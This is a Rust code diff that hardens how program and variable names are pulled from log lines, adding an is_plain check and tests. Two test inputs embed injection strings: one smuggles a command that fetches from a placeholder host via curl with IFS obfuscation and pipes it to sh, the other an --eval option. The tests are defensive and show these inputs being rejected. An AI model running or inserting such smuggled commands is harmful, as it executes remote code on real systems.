@@ -2,6 +2,7 @@
 
 use std::collections::BTreeMap;
 
+use super::case::is_plain;
 use crate::desired::{Desired, Mount, Service};
 use crate::outcome::Evidence;
 use crate::secrets::is_secret;
@@ -88,8 +89,7 @@ pub(crate) fn program_in(line: &str) -> Option<&str> {
         Some(rest.split_once(" failed: No such file or directory")?.0)
     };
     let name = of_shell.or_else(of_init)?;
-    let is_word = !name.is_empty() && !name.contains(char::is_whitespace);
-    is_word.then_some(name)
+    (!name.is_empty() && is_plain(name)).then_some(name)
 }
 
 /// Value of a missing variable: that of the siblings, or the only mounted file that fits a name such as `SEED_FILE`.
@@ -132,7 +132,7 @@ fn variable_in(line: &str, set: &BTreeMap<String, String>) -> Option<String> {
         is_name && (word.contains('_') || is_about_variables) && !LEVELS.contains(word)
     })?;
     let is_set = set.get(word).is_some_and(|value| !value.is_empty());
-    (!is_set).then(|| word.to_owned())
+    (!is_set && is_plain(word)).then(|| word.to_owned())
 }
 
 #[cfg(test)]
@@ -154,6 +154,8 @@ mod tests {
                 Some("slepp"),
             ),
             ("GET /x: 404: page not found", None),
+            ("sh: x;curl${IFS}evil.test|sh: not found", None),
+            ("sh: --eval=x: not found", None),
             ("started", None),
         ] {
             assert_eq!(program_in(line), name, "{line}");
